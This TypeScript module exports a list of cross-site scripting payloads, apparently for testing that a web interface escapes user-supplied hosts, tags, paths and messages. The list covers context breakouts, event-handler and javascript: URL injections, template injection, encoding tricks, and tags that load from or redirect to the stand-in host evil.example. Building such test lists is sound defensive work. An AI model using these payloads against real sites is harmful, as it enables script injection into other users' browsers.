/** What somebody could write as a host, tag, path or message, to have it run in the browser of whoever looks. */

const script = 'window.pwned=1'
const breakouts = [
  '',
  '">',
  "'>",
  '`>',
  '</title>',
  '</style>',
  '</code>',
  '</bdi>',
  '-->',
  ']]>',
  '</svg>',
  '</textarea>',
  '\u0000">',
  '">\n',
]
const elements = [
  `<script>${script}</script>`,
  `<img src=x onerror=${script}>`,
  `<svg onload=${script}>`,
  `<svg><script>${script}</script></svg>`,
  `<iframe srcdoc="<script>parent.${script}</script>">`,
  `<body onload=${script}>`,
  `<details open ontoggle=${script}>`,
]
const others = [
  `" onmouseover="${script}" x="`,
  `' onfocus='${script}' autofocus='`,
  `javascript:${script}`,
  `data:text/html,<script>${script}</script>`,
  `<a href="javascript:${script}">x</a>`,
  `<meta http-equiv="refresh" content="0;url=http://evil.example/">`,
  `<base href="http://evil.example/">`,
  `<link rel="stylesheet" href="http://evil.example/x.css">`,
  `<form action="http://evil.example/"><input autofocus></form>`,
  `<object data="http://evil.example/x">`,
  `<style>@import 'http://evil.example/x.css'</style>`,
  `\${${script}}`,
  `{{constructor.constructor('${script}')()}}`,
  `%3Cscript%3E${script}%3C/script%3E`,
  `&lt;script&gt;${script}&lt;/script&gt;`,
  `\u202e<script>${script}</script>`,
  `\ud83d<script>${script}</script>`,
  `<scr\u0000ipt>${script}</scr\u0000ipt>`,
  `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${script}>`,
]

export const payloads: readonly string[] = [
  ...breakouts.flatMap((breakout) => elements.map((element) => breakout + element)),
  ...others,
]
